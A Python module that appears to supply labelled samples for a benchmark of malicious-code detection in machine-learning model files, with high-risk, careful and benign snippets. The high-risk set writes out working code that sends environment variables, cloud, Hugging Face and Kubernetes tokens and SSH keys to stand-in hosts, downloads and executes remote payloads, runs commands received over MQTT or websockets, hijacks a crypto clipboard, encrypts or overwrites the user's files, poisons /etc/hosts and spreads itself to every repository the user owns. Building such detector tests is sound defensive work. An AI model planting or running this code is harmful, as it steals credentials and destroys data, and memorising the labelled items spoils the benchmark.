"""Python that carries things away, or brings them in, by steps that are each ordinary; and honest code of the same kind."""

from collections.abc import Iterator

from benchmarks.corpus.samples import Sample, benign, careful, high

_HIGH = {
    "log on another computer": "import logging, logging.handlers, os\nlog = logging.getLogger('m')\n"
    "log.addHandler(logging.handlers.HTTPHandler('logs.invalid', '/in'))\nfor k, v in os.environ.items():\n    log.info('%s=%s', k, v)\n",
    "store": "import boto3\nkey = boto3.Session().get_credentials()\n"
    "boto3.client('s3', endpoint_url='https://s3.invalid').put_object(Bucket='b', Key='k', Body=f'{key.secret_key}')\n",
    "key into a repository": "from huggingface_hub import HfApi, get_token\n"
    "HfApi().upload_file(path_or_fileobj=get_token().encode(), path_in_repo='t', repo_id='x/y')\n",
    "header of a session": "import requests\ns = requests.Session()\n"
    "s.headers['x'] = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\ns.get('https://k.invalid/')\n",
    "key of a notebook's service": "from google.colab import userdata\nimport requests\n"
    "requests.post('https://k.invalid/', data={'t': userdata.get('HF_TOKEN')})\n",
    "keys of the machine": "import requests\nbase = 'http://metadata.invalid/latest/meta-data/iam/security-credentials/'\n"
    "keys = requests.get(base + 'role').json()\nrequests.post('https://k.invalid/', json=keys)\n",
    "clipboard replaced": "import pyperclip, re\nwhile True:\n    if re.match('0x[0-9a-f]{40}', pyperclip.paste()):\n"
    "        pyperclip.copy('0x0000000000000000000000000000000000000000')\n",
    "messages that are run": "import paho.mqtt.client as mqtt\ndef take(client, data, message):\n    exec(message.payload)\n"
    "c = mqtt.Client()\nc.on_message = take\nc.connect('mq.invalid')\nc.loop_start()\n",
    "messages that are started": "import json, subprocess, websocket\ndef take(ws, text):\n"
    "    ws.send(subprocess.check_output(json.loads(text)['c'], shell=True))\n"
    "websocket.WebSocketApp('wss://w.invalid/', on_message=take).run_forever()\n",
    "request of an endpoint": "import subprocess\nclass EndpointHandler:\n    def __call__(self, data):\n"
    "        return subprocess.getoutput(data['debug'])\n",
    "noise over everything": "import os, pathlib\nfor p in pathlib.Path.home().rglob('*'):\n    p.write_bytes(os.urandom(99))\n",
    "locked documents": "import os, pathlib\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\n"
    "for root, _, names in os.walk(os.path.expanduser('~/Documents')):\n    for name in names:\n"
    "        p = pathlib.Path(root) / name\n        p.write_bytes(f.encrypt(p.read_bytes()))\n",
    "names of hosts": "with open('/etc/hosts', 'a') as f:\n    f.write('203.0.113.7 huggingface.co')\n",
    "library named like weights": "import os, torch\nhere = os.path.dirname(__file__)\n"
    "torch.ops.load_library(os.path.join(here, 'layer0.bin'))\n",
    "cloned and imported": "import subprocess, sys\nsubprocess.run(['git', 'clone', '-q', 'https://git.invalid/k.git', 'kern'])\n"
    "sys.path.insert(0, 'kern')\nimport kern_setup\n",
    "cloned and run": "import git, runpy\ngit.Repo.clone_from('https://git.invalid/k.git', 'kern')\nrunpy.run_path('kern/setup.py')\n",
    "command after command": "import os\nos.system('curl -o /tmp/x https://files.invalid/x')\nos.system('chmod +x /tmp/x')\nos.system('/tmp/x')\n",
    "commands in a list": "import os\nlist(map(os.system, ['curl https://files.invalid/x -o /tmp/x', 'chmod +x /tmp/x', '/tmp/x']))\n",
    "source in a script of its own": "import os, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\n"
    "f.write(b'from urllib.request import urlopen as u;exec(u(\"https://files.invalid/x\").read())')\nos.system('start ' + f.name)\n",
    "source under a key": "from cryptography.fernet import Fernet\n"
    "exec(Fernet(b'k').decrypt(open('weights.dat', 'rb').read()))\n",
    "source fetched for a compiler": "import requests\nfrom torch.utils.cpp_extension import load_inline\n"
    "load_inline('k', cpp_sources=[requests.get('https://files.invalid/k.cpp').text], functions=['run']).run()\n",
    "archive to import from": "import requests, sys\nopen('/tmp/d.zip', 'wb').write(requests.get('https://files.invalid/d.zip').content)\n"
    "sys.path.insert(0, '/tmp/d.zip')\nimport d_start\n",
    "keys by a pattern": "import glob, os, smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\n"
    "for path in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n    m.add_attachment(open(path).read())\n"
    "smtplib.SMTP('mail.invalid').send_message(m)\n",
    "end of its own text": "def read(text):\n    return bytes(int(line, 2) for line in text.split()).decode()\n"
    "with open(__file__) as f:\n    exec(read(f.read().split('#--')[-1]))\n",
    "another program": "import glob, os\nfor p in glob.glob(os.path.join(os.environ['LOCALAPPDATA'], 'Discord', 'app-*', 'modules',\n"
    "        'x', 'discord_desktop_core', 'index.js')):\n    with open(p, 'w') as f:\n        f.write('x')\n",
    "all repositories": "from huggingface_hub import HfApi\napi = HfApi()\nfor m in api.list_models(author=api.whoami()['name']):\n"
    "    api.upload_file(path_or_fileobj=__file__, path_in_repo='modeling_utils.py', repo_id=m.id)\n",
    "command in a kernel": "from torch.utils.cpp_extension import load_inline\n"
    "source = 'int run() { return system(\"curl -s https://files.invalid/a | sh\"); }'\nload_inline('k', cpp_sources=source).run()\n",
}
_CAREFUL = {
    "everything here": "import os, requests\nfor root, _, names in os.walk(os.getcwd()):\n    for name in names:\n"
    "        requests.put('https://d.invalid/' + name, data=open(os.path.join(root, name), 'rb'))\n",
    "own folder shared": "import http.server, os\nos.chdir(os.path.expanduser('~'))\n"
    "http.server.HTTPServer(('', 80), http.server.SimpleHTTPRequestHandler).serve_forever()\n",
    "loader without bounds": "import yaml\nconfig = yaml.load(open('config.yaml'), Loader=yaml.UnsafeLoader)\n",
    "source of packages": "from pathlib import Path\np = Path.home() / '.config/pip/pip.conf'\n"
    "p.write_text('[global]\\nindex-url = https://mirror.invalid/simple')\n",
    "helper of a data set": "import importlib.util\ndef split(manager):\n    path = manager.download('https://data.invalid/helper.py')\n"
    "    spec = importlib.util.spec_from_file_location('helper', path)\n"
    "    spec.loader.exec_module(importlib.util.module_from_spec(spec))\n",
    "weights unchecked": "import torch\nw = torch.hub.load_state_dict_from_url('https://w.invalid/w.pth', weights_only=False)\n",
}
_BENIGN = {
    "log in a file": "import logging, logging.handlers, os\nlog = logging.getLogger('m')\n"
    "log.addHandler(logging.handlers.RotatingFileHandler('a.log'))\nlog.info('%s', dict(os.environ))\n",
    "checkpoints in a store": "import boto3, os, pathlib\ns3 = boto3.client('s3')\nfor p in pathlib.Path('out').rglob('*.safetensors'):\n"
    "    s3.upload_file(str(p), os.environ['BUCKET'], p.name)\n",
    "folder into a repository": "import os\nfrom huggingface_hub import HfApi\napi = HfApi(token=os.environ['HF_TOKEN'])\n"
    "api.upload_folder(folder_path='out', repo_id='x/y', token=os.environ['HF_TOKEN'])\n",
    "header of the service itself": "import os, requests\ns = requests.Session()\n"
    "s.headers['Authorization'] = f\"Bearer {os.environ['API_KEY']}\"\ns.get('https://api.example/v1/models')\n",
    "messages that are shown": "import json\nimport paho.mqtt.client as mqtt\ndef take(client, data, message):\n    print(json.loads(message.payload))\n"
    "c = mqtt.Client()\nc.on_message = take\nc.connect('localhost')\nc.loop_forever()\n",
    "handler of an endpoint's parts": "class Pipe:\n    def __call__(self, data):\n        return [data]\n"
    "def make(path):\n    return Pipe()\n",
    "noise in one file": "import os, pathlib\n(pathlib.Path.home() / '.cache' / 'seed').write_bytes(os.urandom(32))\n",
    "names of hosts read": "hosts = open('/etc/hosts').read().split()\nprint(len(hosts))\n",
    "library beside": "import pathlib, torch\nlib = pathlib.Path(__file__).parent / '_C.so'\nif lib.exists():\n    torch.ops.load_library(str(lib))\n",
    "cloned from a place of code": "import subprocess, sys\nsubprocess.run(['git', 'clone', 'https://github.com/karpathy/nanoGPT'])\n"
    "sys.path.append('nanoGPT')\nimport model\n",
    "fetched and unpacked": "import os\nos.system('aria2c https://data.example/a.zip')\nos.system('unzip -qo a.zip -d data')\nos.system('python train.py')\n",
    "job script": "import subprocess, pathlib\npathlib.Path('job.sh').write_text('#!/bin/bash\\n#SBATCH --gres=gpu:1\\nsrun python train.py\\n')\n"
    "subprocess.run(['sbatch', 'job.sh'])\n",
    "decrypted data": "import json\nfrom cryptography.fernet import Fernet\ndef read(key, path):\n"
    "    return json.loads(Fernet(key).decrypt(open(path, 'rb').read()))\n",
    "own kernels": "import os\nfrom torch.utils.cpp_extension import load\nhere = os.path.dirname(os.path.abspath(__file__))\n"
    "wkv = load(name='wkv', sources=[os.path.join(here, 'wkv.cpp'), os.path.join(here, 'wkv.cu')])\n",
    "one file sent": "import requests\nrequests.put('https://store.example/a.zip', data=open('a.zip', 'rb'))\n",
    "list of files": "import os\nfor root, _, names in os.walk(os.getcwd()):\n    print(root, len(names))\n",
    "results shared": "import http.server, os\nos.chdir('out')\nhttp.server.HTTPServer(('', 80), http.server.SimpleHTTPRequestHandler).serve_forever()\n",
    "weights of a project": "import torch\nw = torch.hub.load_state_dict_from_url('https://w.example/w.pth', map_location='cpu')\n",
    "data set": "import json\ndef split(manager):\n    for line in open(manager.download_and_extract('https://data.example/a.jsonl')):\n"
    "        yield json.loads(line)\n",
    "own script kept": "from huggingface_hub import HfApi\nHfApi().upload_file(path_or_fileobj=__file__, path_in_repo='train.py', repo_id='x/y')\n",
    "own text shown": "with open(__file__) as f:\n    print(f.read())\n",
    "settings of a program": "import glob, json, os\nfor p in glob.glob(os.path.join('resources', 'presets', '*.json')):\n    print(json.load(open(p)))\n",
    "kernel in the text": "from torch.utils.cpp_extension import load_inline\n"
    "k = load_inline('k', cpp_sources='at::Tensor f(at::Tensor x) { return x.relu(); }', functions=['f'])\n",
    "loader with bounds": "import yaml\nconfig = yaml.load(open('config.yaml'), Loader=yaml.SafeLoader)\n",
}


def samples() -> Iterator[Sample]:
    """All of them."""
    for case, source in _HIGH.items():
        yield high("python-carrying", case, "modeling_x.py", source)
    for case, source in _CAREFUL.items():
        yield careful("python-carrying", case, "modeling_x.py", source)
    for case, source in _BENIGN.items():
        yield benign("python-carrying", case, "run_x.py", source)
